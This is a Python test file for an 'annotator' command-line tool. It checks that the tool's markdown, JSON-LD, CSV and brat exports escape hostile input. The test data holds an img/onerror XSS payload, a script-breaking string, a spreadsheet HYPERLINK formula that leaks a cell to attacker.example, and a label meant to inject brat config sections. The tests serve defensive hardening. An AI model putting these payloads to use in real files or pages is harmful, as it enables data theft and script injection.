"""``annotator export`` run as a user runs it, on articles and sidecars carrying markup,
script-closing tags and spreadsheet formulas: the output shows them and never runs them."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

import annotator

IMG = '"><img src=x onerror=alert(9)>'
SCRIPT_BREAK = "</script><script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
TEXT = "The mayor said the bridge is safe. Engineers disagree.\n"


def annotator_cli(*argv: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    """The command line in its own process, with this checkout's package first on the path."""
    env = {**os.environ, "PYTHONPATH": str(Path(annotator.__file__).resolve().parents[1])}
    return subprocess.run(
        [sys.executable, "-m", "annotator", *argv], cwd=cwd, env=env, capture_output=True, text=True, timeout=120
    )


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))


def _annotated(tmp_path: Path, note: str = "", **sidecar_changes: str) -> Path:
    article = tmp_path / "bridge.txt"
    article.write_text(TEXT, encoding="utf-8")
    result = annotator_cli(
        "annotate", str(article), "--quote", "the bridge is safe", "--label", "Claim", "--verdict", "False",
        "--note", note, cwd=tmp_path,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    if sidecar_changes:
        sidecar = tmp_path / "bridge.txt.annotations.json"
        data = json.loads(sidecar.read_text(encoding="utf-8"))
        data["annotations"][0].update(sidecar_changes)
        sidecar.write_text(json.dumps(data), encoding="utf-8")
    return article


@pytest.mark.parametrize("og_url", [f"https://news.example/bridge{IMG}", IMG])
def test_markdown_report_of_a_page_whose_address_holds_markup_renders_no_html(tmp_path, og_url):
    page = tmp_path / "bridge.html"
    page.write_text(
        "<html><head><title>Bridge</title>"
        f"<meta property='og:url' content='{og_url}'></head>"
        f"<body><article><p>{TEXT} The council will decide on Monday after a long debate.</p></article></body></html>",
        encoding="utf-8",
    )
    result = annotator_cli("export", str(page), "--format", "markdown", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    source_line = next(line for line in result.stdout.splitlines() if line.startswith("Source:"))
    rendered = _Elements()
    rendered.feed(MarkdownIt("commonmark").render(result.stdout))
    assert "img" not in {tag for tag, _ in rendered.elements}, source_line
    assert not [attrs for _, attrs in rendered.elements if "onerror" in attrs]
    links = [attrs["href"] for tag, attrs in rendered.elements if tag == "a"]
    assert all(link.startswith("https://") and '"' not in link for link in links)  # markdown-it never links file:
    if og_url.startswith("https://"):
        assert source_line == "Source: <https://news.example/bridge%22%3E%3Cimg%20src=x%20onerror=alert(9)%3E>  "
    else:  # not a web address: the article is identified by its file
        assert source_line == f"Source: <{page.as_uri()}>  "


@pytest.mark.parametrize("format_name", ["claimreview", "w3c"])
def test_json_ld_with_a_script_closing_note_stays_inside_its_script_block(tmp_path, format_name):
    article = _annotated(tmp_path, note=SCRIPT_BREAK)
    result = annotator_cli("export", str(article), "--format", format_name, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert "<" not in result.stdout and ">" not in result.stdout and "&" not in result.stdout
    assert SCRIPT_BREAK in json.dumps(json.loads(result.stdout), ensure_ascii=False)  # same values


def test_csv_guards_a_formula_in_the_id_column(tmp_path):
    article = _annotated(tmp_path, note="fine", id=FORMULA)
    target = tmp_path / "claims.csv"
    result = annotator_cli("export", str(article), "--format", "csv", "-o", str(target), cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8-sig"), newline="")))
    assert rows[0]["id"] == "'" + FORMULA


HOSTILE_LABEL = "Rumour\n\n[drawing]\nRumour\tbgColor:#000000"


def test_an_imported_label_with_line_breaks_is_cleaned_reported_and_cannot_add_brat_sections(tmp_path):
    article = _annotated(tmp_path, note="kept")
    exact = "Engineers disagree."
    start = TEXT.index(exact)
    foreign = tmp_path / "foreign.jsonld"
    foreign.write_text(
        json.dumps(
            {
                "type": "Annotation",
                "body": [{"type": "TextualBody", "purpose": "classifying", "value": HOSTILE_LABEL}],
                "target": {"selector": {"type": "TextPositionSelector", "start": start, "end": start + len(exact)}},
            }
        ),
        encoding="utf-8",
    )
    imported = annotator_cli("import", str(article), "--format", "w3c", str(foreign), cwd=tmp_path)
    assert imported.returncode == 0, imported.stderr
    assert "added 1" in imported.stdout and "had line breaks, tabs or control characters" in imported.stdout
    sidecar = json.loads((tmp_path / "bridge.txt.annotations.json").read_text(encoding="utf-8"))
    assert [a["label"] for a in sidecar["annotations"]] == ["Claim", "Rumour [drawing] Rumour bgColor:#000000"]
    out = tmp_path / "brat"
    out.mkdir()
    exported = annotator_cli("export", str(article), "--format", "brat", "-o", str(out / "bridge.ann"), cwd=tmp_path)
    assert exported.returncode == 0, exported.stderr
    visual = (out / "visual.conf").read_text(encoding="utf-8").splitlines()
    assert [line for line in visual if line.startswith("[")] == ["[labels]", "[drawing]"]
    assert not [line for line in visual if line.startswith("Rumour\t")]
    report = annotator_cli("export", str(article), "--format", "markdown", cwd=tmp_path)
    assert "## Rumour \\[drawing\\] Rumour bgColor:\\#000000 (1)" in report.stdout.splitlines()


@pytest.mark.parametrize("name", ["Claim\n# Injected", "Claim\tx", "Claim\u2028x"])
def test_annotate_refuses_a_label_name_with_control_characters(tmp_path, name):
    article = _annotated(tmp_path, note="kept")
    before = (tmp_path / "bridge.txt.annotations.json").read_bytes()
    result = annotator_cli("annotate", str(article), "--quote", "Engineers disagree", "--label", name, cwd=tmp_path)
    assert result.returncode == 1
    assert "a label name cannot contain line breaks, tabs or other control characters" in result.stderr
    assert (tmp_path / "bridge.txt.annotations.json").read_bytes() == before
